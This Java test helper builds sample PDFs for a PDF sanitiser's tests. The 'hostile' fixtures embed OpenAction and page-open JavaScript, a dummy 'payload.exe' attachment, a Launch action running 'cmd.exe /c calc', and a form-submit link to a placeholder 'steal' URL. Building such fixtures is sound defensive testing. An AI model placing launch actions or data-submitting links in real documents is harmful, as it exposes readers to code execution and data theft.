package jp.madoguchi.forms.sanitise;

import com.lowagie.text.Document;
import com.lowagie.text.PageSize;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfAction;
import com.lowagie.text.pdf.PdfAnnotation;
import com.lowagie.text.pdf.PdfDictionary;
import com.lowagie.text.pdf.PdfFileSpecification;
import com.lowagie.text.pdf.PdfName;
import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.PdfStamper;
import com.lowagie.text.pdf.PdfString;
import com.lowagie.text.pdf.PdfWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;

/** PDFs built in code: a clean one, one full of active content, an encrypted one. */
final class TestPdfs {

  static final String OPEN_SCRIPT = "app.alert('opened-by-madoguchi-test')";
  static final String DOCUMENT_SCRIPT = "var documentLevelScript = 1;";
  static final String VISIBLE_TEXT = "Juminhyo copy";

  private TestPdfs() {}

  interface WriterStep {
    void apply(PdfWriter writer) throws Exception;
  }

  static byte[] clean() {
    return write(writer -> {});
  }

  /** OpenAction JavaScript, a document-level script, an embedded file and a Launch link. */
  static byte[] hostile() {
    return write(
        writer -> {
          writer.setOpenAction(PdfAction.javaScript(OPEN_SCRIPT, writer));
          writer.addJavaScript(DOCUMENT_SCRIPT);
          writer.addFileAttachment(
              PdfFileSpecification.fileEmbedded(
                  writer, null, "payload.exe", "MZ-not-really".getBytes(StandardCharsets.UTF_8)));
          writer.addAnnotation(
              new PdfAnnotation(
                  writer,
                  50,
                  50,
                  200,
                  80,
                  PdfAction.createLaunch("cmd.exe", "/c calc", null, null)));
        });
  }

  /** A page that runs JavaScript when opened, and a link that submits a form. */
  static byte[] withPageActionAndSubmitLink() {
    return write(
        writer -> {
          writer.setPageAction(PdfWriter.PAGE_OPEN, PdfAction.javaScript(OPEN_SCRIPT, writer));
          writer.addAnnotation(
              new PdfAnnotation(
                  writer,
                  50,
                  50,
                  200,
                  80,
                  PdfAction.createSubmitForm("http://example.invalid/steal", null, 0)));
        });
  }

  /** A clean file whose catalog then gets an AcroForm with an XFA stream name. */
  static byte[] withXfa() {
    return stamp(
        clean(),
        reader -> {
          PdfDictionary acroForm = new PdfDictionary();
          acroForm.put(PdfName.XFA, new PdfString("<xdp:xdp/>"));
          acroForm.put(PdfName.FIELDS, new com.lowagie.text.pdf.PdfArray());
          reader.getCatalog().put(PdfName.ACROFORM, acroForm);
        });
  }

  interface ReaderStep {
    void apply(PdfReader reader) throws Exception;
  }

  static byte[] stamp(byte[] pdf, ReaderStep change) {
    try {
      PdfReader reader = new PdfReader(pdf);
      change.apply(reader);
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      new PdfStamper(reader, out).close();
      return out.toByteArray();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] write(WriterStep afterOpen) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Document document = new Document(PageSize.A4);
    try {
      PdfWriter writer = PdfWriter.getInstance(document, out);
      writer.setCompressionLevel(0);
      document.open();
      afterOpen.apply(writer);
      document.add(new Paragraph(VISIBLE_TEXT));
      document.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
    return out.toByteArray();
  }
}
